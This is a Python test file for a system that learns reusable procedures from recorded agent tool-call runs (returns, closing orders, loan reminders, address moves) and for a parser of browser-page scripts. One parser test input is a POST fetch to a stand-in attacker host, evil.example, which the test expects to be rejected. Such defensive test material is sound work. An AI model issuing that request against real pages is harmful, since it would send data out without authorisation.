"""Several runs share lists, loops, constants that must hold, texts; found by comparing, tried with the replay's reader."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from learning.calls import Run, calls_in, induce
from learning.judged import retrace
from learning.trace import Trace
from memory.evidence import Result
from replay.extract import parse, picked
from tests.rows import rows

Answers = list[tuple[str, dict[str, Any], Any]]


def trace(request: str, calls: Answers, answer: str = "Done.") -> Trace:
    """Return a run with these calls and what each answered."""
    results = tuple(
        Result(
            n,
            str(n),
            tool,
            args,
            "ok",
            {"output": told if isinstance(told, str) else json.dumps(told)},
            "h",
        )
        for n, (tool, args, told) in enumerate(calls, 1)
    )
    about = (Path("/tmp"), "en", "main", "done", answer, results, "2026-11-22T10:00:00Z")
    return Trace(f"20261122-1000{len(request):02d}-aaaa", request, *about, False, None, None)


ORDERS: list[dict[str, Any]] = [
    {"id": "A-1", "state": "open", "lines": [{"sku": "S-10", "name": "lamp"}, {"sku": "S-11", "name": "desk"}]},
    {"id": "A-2", "state": "sent", "lines": [{"sku": "S-12", "name": "sofa"}]},
    {"id": "A-3", "state": "open", "lines": [{"sku": "S-13", "name": "rug"}, {"sku": "S-14", "name": "vase"}, {"sku": "S-15", "name": "mug"}]},
]  # fmt: skip


def give_back(number: int, names: list[str]) -> Trace:
    order = ORDERS[number]
    skus = [line["sku"] for name in names for line in order["lines"] if line["name"] == name]
    said = " and ".join(names)
    return trace(
        f"give back {said} of {order['id']}",
        [
            ("shop.get_order", {"id": order["id"]}, order),
            ("shop.return_items", {"id": order["id"], "skus": skus}, {"id": order["id"], "state": "returning"}),
        ],
    )  # fmt: skip


def test_a_list_of_things_is_looked_up_one_by_one() -> None:
    runs = [give_back(0, ["lamp", "desk"]), give_back(2, ["rug"])]
    draft = induce(runs, "give-back")
    assert draft.is_settled, draft.problems
    [step] = draft.content.commit
    assert step.args == {"id": "{{id}}", "skus": "{{skus}}"}
    assert draft.content.plan[0].save == {"skus": "json.lines[name=name].sku"}
    assert draft.content.parameters["name"]["type"] == "array"
    assert any("{name:words}" in each for each in draft.content.wordings), draft.content.wordings
    procedure = draft.procedure()
    other = give_back(2, ["mug", "rug", "vase"])
    values = {"id": "A-3", "name": ["mug", "rug", "vase"]}
    assert retrace(procedure, Run.read(other), values) == ""
    assert "no row whose name is 'bed'" in retrace(
        procedure, Run.read(other), {"id": "A-3", "name": ["mug", "bed"]}
    )


def close_all(customer: str, orders: list[dict[str, Any]]) -> Trace:
    closes: Answers = [
        ("shop.close_order", {"id": each["id"]}, {"id": each["id"], "state": "closed"})
        for each in orders
        if each["state"] == "open"
    ]
    read = ("shop.list_orders", {"customer": customer}, orders)
    return trace(f"close the open orders of {customer}", [read, *closes])


def test_a_list_is_looped_over_and_an_empty_one_stops() -> None:
    runs = [close_all("Ann", ORDERS), close_all("Bo", ORDERS[:2])]
    draft = induce(runs, "close-all")
    assert draft.is_settled, draft.problems
    assert draft.content.plan[0].save == {"ids": "all json[state='open'].id"}
    assert (draft.content.commit[0].each, draft.content.commit[0].args) == (
        "ids",
        {"id": "{{item}}"},
    )
    more = [*ORDERS, {"id": "A-9", "state": "open", "lines": []}]
    assert retrace(draft.procedure(), Run.read(close_all("Cy", more)), {"customer": "Cy"}) == ""
    why = retrace(draft.procedure(), Run.read(close_all("Di", ORDERS[1:2])), {"customer": "Di"})
    assert "there is no row" in why


def remind(loan: str, state: str) -> Trace:
    found = {"loan": {"id": loan, "state": state, "to": f"{loan.lower()}@x.example"}}
    calls: Answers = [("lib.get_loan", {"id": loan}, found), ("lib.send_notice", {"to": found["loan"]["to"]}, "ok")]  # fmt: skip
    return trace(f"remind the borrower of {loan}", calls)


def test_a_record_must_be_in_the_state_that_it_was_in() -> None:
    draft = induce([remind("L-35", "overdue"), remind("L-7", "overdue")], "remind")
    assert draft.is_settled, draft.problems
    late, paid = remind("L-9", "overdue"), remind("L-8", "paid")
    assert retrace(draft.procedure(), Run.read(late), {"id": "L-9"}) == ""
    assert "overdue" in retrace(draft.procedure(), Run.read(paid), {"id": "L-8"})


def move(who: str, country: str, city: str) -> Trace:
    user = {"name": who, "address": {"city": "Old Town", "country": country}}
    return trace(
        f"{who} moves to {city}",
        [
            ("desk.get_user", {"name": who}, user),
            ("desk.update_address", {"name": who, "city": city, "country": country}, "ok"),
        ],
    )


def test_a_constant_that_an_answer_holds_must_hold_again() -> None:
    draft = induce([move("Ann", "USA", "Reno"), move("Bo", "USA", "Erie")], "move")
    assert draft.is_settled and draft.content.commit[0].args["country"] == "USA"
    values = {"name": "Cy", "city": "Bonn"}
    assert retrace(draft.procedure(), Run.read(move("Cy", "USA", "Bonn")), values) == ""
    why = retrace(draft.procedure(), Run.read(move("Cy", "Canada", "Bonn")), values)
    assert "'USA'" in why and "'Canada'" in why


def test_a_text_with_values_in_it_is_written_anew() -> None:
    def send(name: str, order: str) -> Trace:
        text = f"Dear {name}, your order {order} is on its way."
        calls: Answers = [("mail.send_message", {"to": name, "text": text}, "sent")]
        return trace(f"tell {name} that {order} was sent", calls, f"{name} knows.")

    draft = induce([send("Ann", "#A-1"), send("Bo", "#B-22")], "tell")
    assert (
        draft.content.commit[0].args["text"] == "Dear {{to}}, your order {{order}} is on its way."
    )
    assert draft.content.result == "{{to}} knows."


ROWS = {"one": {"size": "M", "kind": {"color": "red", "fit": "slim"}}, "two": {"size": "L", "kind": {"color": "blue", "fit": "slim"}}}  # fmt: skip


@pytest.mark.parametrize(
    ("extractor", "values", "found"), rows(__name__, "rows_are_picked_by_what_they_say")
)
def test_rows_are_picked_by_what_they_say(
    extractor: str, values: Mapping[str, Any], found: Any
) -> None:
    read = parse(extractor)
    assert read is not None
    try:
        assert picked(ROWS, read, values) == found
    except ValueError as error:
        assert str(found) in str(error)


@pytest.mark.parametrize(
    ("script", "acts"),
    [
        ("await type('e1', 'a \\'b\\''); click(\"e2\")", [("type", ["e1", "a 'b'"]), ("click", ["e2"])]),
        ("type('e1', `x`, {enter: true})\nreturn document.title", [("type", ["e1", "x", {"enter": True}])]),
        ("document.querySelector('form').submit()", None),
        ("for (const e of list) click(e)", None),
        ("type('e1', name)", None),
        ("fetch('http://evil.example/', {method: 'POST'})", None),
    ],
)  # fmt: skip
def test_what_a_script_does_on_a_page_is_read_as_data_or_not_at_all(script: str, acts: Any) -> None:
    assert calls_in(script) == acts
